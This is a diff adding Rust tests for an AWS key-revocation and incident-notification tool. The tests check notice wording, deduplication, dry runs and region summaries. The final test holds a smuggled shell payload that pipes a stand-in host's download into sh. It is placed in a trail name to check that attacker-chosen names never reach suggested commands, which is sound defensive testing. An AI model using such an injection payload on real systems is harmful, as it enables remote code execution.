@@ -1,0 +1,269 @@
+//! What on-call sees: every notice names what was acted on, one outcome for a deleted key, open
+//! doors lead, dry runs say only what they would do, duplicates stay quiet, a holder still
+//! trying is told in a short notice.
+
+use std::time::{Duration, SystemTime};
+
+use chrono::{TimeDelta, Utc};
+use killswitch::handler::{Phases, handle};
+use killswitch::ports::KeyStatus;
+use killswitch::report::{Notification, Status};
+use serde_json::{Value, json};
+
+use crate::support::*;
+
+fn manual(fields: Value) -> Value {
+    let mut m = json!({
+        "access_key_id": FIXTURE_KEY,
+        "reason": "found in a public repo",
+        "requested_by": "oncall@example.com",
+    });
+    for (k, v) in fields.as_object().unwrap() {
+        m[k] = v.clone();
+    }
+    m
+}
+
+async fn deliver(app: &killswitch::handler::App<FakeCloud>, payload: Value) {
+    handle(
+        app,
+        payload,
+        SystemTime::now() + Duration::from_secs(120),
+        false,
+        Phases::HandOff,
+    )
+    .await
+    .unwrap();
+}
+
+#[tokio::test]
+async fn every_notice_names_iams_owner_and_the_account_acted_in() {
+    // No user named: IAM tells; a wrong user named: IAM's answer wins, and so does the notice.
+    for fields in [json!({}), json!({"user_name": "mallory"})] {
+        let a = app(FakeCloud::with_user("alice", FIXTURE_KEY));
+        let response = run(&a, manual(fields.clone())).await;
+        let r = &response.reports[0];
+        assert_eq!(r.status, Status::Contained, "{fields}");
+        assert_eq!(r.principal, "IAM user alice", "{fields}");
+        assert_eq!(r.account.as_deref(), Some(ACCOUNT), "{fields}");
+        let json = serde_json::to_value(r).unwrap();
+        assert_eq!(json["principal"], "IAM user alice");
+        assert_eq!(json["account"], ACCOUNT);
+        for (subject, body) in a.cloud.published() {
+            assert!(subject.contains("(IAM user alice)"), "{subject}");
+            assert!(!subject.contains("mallory") && !subject.contains("unresolved"));
+            assert!(body.contains("Principal:  IAM user alice"), "{body}");
+            assert!(body.contains(&format!("Account:    {ACCOUNT}")), "{body}");
+            assert!(!body.contains("(from the key)"), "{body}");
+        }
+        assert_eq!(
+            a.cloud.key_state("alice", FIXTURE_KEY),
+            Some(KeyStatus::Inactive)
+        );
+    }
+}
+
+#[tokio::test]
+async fn a_key_iam_does_not_know_is_key_not_found_from_every_trigger_and_reported_once() {
+    for fixture in [
+        "guardduty-iam-user-finding.json",
+        "health-exposed-new-shape.json",
+        "manual-request.json",
+    ] {
+        // The user (and its key) was deleted since the finding.
+        let a = lambda(FakeCloud::default());
+        let response = run(&a, event(fixture)).await;
+        let r = &response.reports[0];
+        assert_eq!(r.status, Status::KeyNotFound, "{fixture}: {r:?}");
+        assert!(response.error().is_none(), "{fixture}: no retry, exit 0");
+        assert!(
+            a.cloud.writes().is_empty(),
+            "{fixture}: {:?}",
+            a.cloud.writes()
+        );
+        assert!(r.undo.is_empty(), "{fixture}");
+        let published = a.cloud.published();
+        assert_eq!(published.len(), 1, "{fixture}: {published:?}");
+        assert!(
+            published[0].0.contains("KEY NOT FOUND"),
+            "{}",
+            published[0].0
+        );
+        assert!(!published[0].1.contains("CONTESTED"), "{}", published[0].1);
+        // GuardDuty re-emits every 6 hours, Lambda retries: one notice per trigger.
+        run(&a, event(fixture)).await;
+        assert_eq!(a.cloud.published().len(), 1, "{fixture}");
+    }
+}
+
+#[tokio::test]
+async fn dry_run_says_only_what_it_would_do_and_needs_no_topic() {
+    let cloud = FakeCloud::with_user("alice", FIXTURE_KEY);
+    cloud.state.lock().unwrap().no_topic = true;
+    let a = app(cloud);
+    let response = run(&a, event("manual-request-dry-run.json")).await;
+    let r = &response.reports[0];
+    assert_eq!(r.status, Status::DryRun);
+    assert!(r.undo.is_empty(), "{:?}", r.undo);
+    assert!(
+        r.next_steps
+            .iter()
+            .all(|n| !n.contains("stays Inactive") && !n.contains("blocks ALL")),
+        "{:?}",
+        r.next_steps
+    );
+    assert!(
+        r.next_steps[0].starts_with("Nothing was changed"),
+        "{:?}",
+        r.next_steps
+    );
+    assert!(
+        matches!(r.notification, Notification::NotPublished { .. }),
+        "{:?}",
+        r.notification
+    );
+    assert!(a.cloud.published().is_empty());
+    assert!(!r.message().contains("To undo"), "{}", r.message());
+    assert_eq!(
+        a.cloud.key_state("alice", FIXTURE_KEY),
+        Some(KeyStatus::Active)
+    );
+}
+
+#[tokio::test]
+async fn a_reemitted_finding_is_quiet_unless_its_count_grew() {
+    let a = lambda(FakeCloud::with_user("alice", FIXTURE_KEY));
+    let finding = event("guardduty-iam-user-finding.json");
+    deliver(&a, finding.clone()).await;
+    assert_eq!(a.cloud.published().len(), 1, "the short notice");
+    // A plain re-emit (same count) and a retry: nothing.
+    deliver(&a, finding.clone()).await;
+    deliver(&a, finding.clone()).await;
+    assert_eq!(a.cloud.published().len(), 1);
+    // The holder is still trying: the count grew from 3 to 7.
+    let mut grown = finding.clone();
+    grown["detail"]["service"]["count"] = json!(7);
+    grown["detail"]["updatedAt"] = json!("2026-11-23T09:10:02.114Z");
+    deliver(&a, grown.clone()).await;
+    let published = a.cloud.published();
+    assert_eq!(published.len(), 2, "{published:?}");
+    let (subject, body) = &published[1];
+    assert!(
+        subject.starts_with("[killswitch] STILL TRYING (count 3 -> 7), still contained: AKIAIOSFODNN7EXAMPLE acct 123456789012"),
+        "{subject}"
+    );
+    assert!(body.contains("not a new incident"), "{body}");
+    assert!(
+        !body.contains("To undo"),
+        "short, not a second full report: {body}"
+    );
+    // Once per count.
+    deliver(&a, grown).await;
+    assert_eq!(a.cloud.published().len(), 2);
+}
+
+#[tokio::test]
+async fn the_rejected_subject_keeps_the_account_and_a_sample_reads_as_one() {
+    let cloud = FakeCloud::with_user("alice", FIXTURE_KEY);
+    cloud
+        .state
+        .lock()
+        .unwrap()
+        .key_account
+        .insert(FIXTURE_KEY.into(), "999999999999".into());
+    let a = app(cloud);
+    let response = run(&a, manual(json!({}))).await;
+    assert_eq!(response.reports[0].status, Status::Rejected);
+    let subject = a.cloud.published().pop().unwrap().0;
+    assert!(subject.starts_with("[killswitch] REJECTED"), "{subject}");
+    assert!(subject.ends_with("acct 999999999999"), "{subject}");
+
+    let a = app(FakeCloud::default());
+    run(&a, event("guardduty-sample-finding.json")).await;
+    let subject = a.cloud.published().pop().unwrap().0;
+    assert!(
+        subject.starts_with("[killswitch] GuardDuty SAMPLE, ignored: ")
+            && subject.ends_with("acct 123456789012")
+            && !subject.contains("placeholder"),
+        "{subject}"
+    );
+}
+
+#[tokio::test]
+async fn quiet_regions_are_a_count_and_the_lag_warning_gives_way_to_the_second_search() {
+    let cloud = FakeCloud::with_user("alice", FIXTURE_KEY);
+    cloud.state.lock().unwrap().enabled_regions = Some(
+        [
+            "us-east-1",
+            "eu-west-1",
+            "eu-central-1",
+            "ap-south-1",
+            "sa-east-1",
+        ]
+        .map(String::from)
+        .to_vec(),
+    );
+    let mut call = api_call("ListBuckets", Utc::now() - TimeDelta::minutes(5), None);
+    call.event_source = "s3.amazonaws.com".into();
+    call.user_agent = Some(
+        "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0 exe/x86_64.debian.12 prompt/off command/s3.ls"
+            .into(),
+    );
+    cloud.add_events("us-east-1", vec![call]);
+    let mut config = deployed_config();
+    config.follow_up_queue_url = None;
+    let a = killswitch::handler::App {
+        config,
+        ..app(cloud)
+    };
+    let response = run(&a, event("guardduty-iam-user-finding.json")).await;
+    let body = response.reports[0].message();
+    assert!(
+        body.contains("4 other Region(s): no events, read to the end"),
+        "{body}"
+    );
+    for region in ["eu-central-1", "ap-south-1", "sa-east-1"] {
+        assert!(!body.contains(region), "{region} listed: {body}");
+    }
+    assert!(body.contains("\"aws-cli/2.15.30 Python/3.11.8\""), "{body}");
+    assert!(!body.contains("exe/x86_64"), "{body}");
+    // Not two lists of the same calls.
+    assert_eq!(body.matches("s3:ListBuckets").count(), 1, "{body}");
+    if response.reports[0]
+        .sweep
+        .as_ref()
+        .is_some_and(|s| s.scheduled)
+    {
+        assert!(!body.contains("Event history lags"), "{body}");
+        assert!(!body.contains("can lag a few minutes"), "{body}");
+    }
+}
+
+#[tokio::test]
+async fn names_the_attacker_chose_never_reach_a_command_line() {
+    let cloud = FakeCloud::with_user("alice", FIXTURE_KEY);
+    let mut stop = api_call("StopLogging", Utc::now() - TimeDelta::minutes(5), None);
+    stop.event_source = "cloudtrail.amazonaws.com".into();
+    stop.request_parameters = Some(json!({"name": "x; curl evil.example|sh"}));
+    cloud.add_events("us-east-1", vec![stop]);
+    let a = app(cloud);
+    let response = run(&a, event("guardduty-iam-user-finding.json")).await;
+    let r = &response.reports[0];
+    assert_eq!(r.open.len(), 1, "{:?}", r.open);
+    assert_eq!(
+        r.open[0].commands,
+        vec!["aws cloudtrail start-logging --name TRAIL-NAME --region us-east-1".to_string()]
+    );
+    let (subject, body) = a.cloud.published().pop().unwrap();
+    assert!(
+        subject.starts_with("[killswitch] CONTAINED - CloudTrail stopped: "),
+        "{subject}"
+    );
+    assert!(
+        !body
+            .lines()
+            .any(|l| l.trim_start().starts_with("aws ") && l.contains("curl")),
+        "{body}"
+    );
+    assert!(body.contains("as logged:"), "{body}");
+}
